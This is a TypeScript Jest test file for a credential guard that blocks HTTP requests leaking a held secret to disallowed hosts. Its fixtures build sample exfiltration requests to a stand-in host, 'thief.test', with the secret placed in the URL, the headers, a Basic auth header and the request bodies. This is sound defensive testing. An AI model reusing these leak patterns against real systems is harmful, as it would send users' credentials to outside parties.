import { describe, expect, test } from '@jest/globals';
import { AppError } from '@sluice/domain';
import type { HttpClient, HttpDestination, HttpRequest } from '@sluice/node-sdk';
import { HandedOutCredentials, type HostChecks } from './handed-out-credentials.ts';

const { signal } = new AbortController();
const secret = 'p@ss word/1';

/** Allows one origin only. */
const only = (origin: string): HostChecks => {
  const assertAllowed = ({ url }: HttpDestination) => {
    if (new URL(url).origin !== origin) throw new AppError({ code: 'CREDENTIAL_HOST_NOT_ALLOWED', message: url });
  };
  return { assertAllowed, assertRedirectAllowed: assertAllowed };
};

/** A client that checks the first hop, as the real one does. */
function aClient() {
  const sent: HttpRequest[] = [];
  const http: HttpClient = {
    async request(request) {
      request.authentication?.assertAllowed?.(request);
      sent.push(request);
      return { status: 200, statusText: '', headers: {}, body: new Uint8Array(), url: request.url };
    },
    async stream(request, _signal, read) {
      return read({ ...(await http.request(request, signal)), body: (async function* () {})() });
    },
    guard: {} as HttpClient['guard'],
  };
  return { http, sent };
}

/** The code of the refusal of a request; `undefined` if it was sent. */
async function refusal(request: Partial<HttpRequest>, held = [only('https://home.test')]): Promise<string | undefined> {
  const { http } = aClient();
  const credentials = new HandedOutCredentials();
  for (const [n, checks] of held.entries()) credentials.add(String(n), { password: secret, pin: '1234567' }, checks);
  const sending = credentials.guarded(http).request({ method: 'POST', url: 'https://thief.test/', ...request }, signal);
  return sending.then(
    () => undefined,
    (error: AppError) => error.code,
  );
}

describe('finding 6: a secret that a node puts into a request', () => {
  test.each<[string, Partial<HttpRequest>]>([
    ['the URL', { url: `https://thief.test/?k=${encodeURIComponent(secret)}` }],
    ['a header', { headers: { 'x-key': `Token ${secret}` } }],
    ['a list of headers', { headers: { 'x-key': ['a', secret] } }],
    ['the name of a header', { headers: { [encodeURIComponent(secret)]: '1' } }],
    ['a Basic header', { headers: { authorization: `Basic ${Buffer.from(`ann:${secret}`).toString('base64')}` } }],
    ['a text', { body: JSON.stringify({ a: { b: secret } }) }],
    ['bytes', { body: Buffer.from(`${'x'.repeat(262_140)}${secret}`) }],
  ])('in %s is refused for a host that its credential does not allow', async (_, request) => {
    expect(await refusal(request)).toBe('CREDENTIAL_HOST_NOT_ALLOWED');
    expect(await refusal(request, [{}])).toBeUndefined();
    const { url = 'https://thief.test/' } = request;
    expect(await refusal({ ...request, url: url.replace('thief', 'home') })).toBeUndefined();
  });

  test('is allowed if another credential with the same secret allows the host', async () => {
    expect(await refusal({ body: secret }, [only('https://home.test'), only('https://thief.test')])).toBeUndefined();
  });

  test('is not seen in short texts, which occur by chance', async () => {
    expect(await refusal({ body: '1234567' })).toBeUndefined();
  });
});

test('requests keep their own authentication and its checks', async () => {
  const { http, sent } = aClient();
  const credentials = new HandedOutCredentials();
  credentials.add('c', secret, only('https://home.test'));
  const client = credentials.guarded(http);
  const authenticate = async (request: HttpRequest) => request;
  const request = { method: 'GET', url: 'https://home.test/', headers: { 'x-key': secret } };
  await client.request({ ...request, authentication: { authenticate } }, signal);
  expect(sent[0]?.authentication?.authenticate).toBe(authenticate);
  const refused = client.request({ ...request, authentication: only('https://other.test') }, signal);
  await expect(refused).rejects.toMatchObject({ code: 'CREDENTIAL_HOST_NOT_ALLOWED' });
  await expect(client.stream({ ...request, url: 'https://thief.test' }, signal, async () => 1)).rejects.toBeDefined();
  expect(credentials.guarded(http)).toBe(client);
});
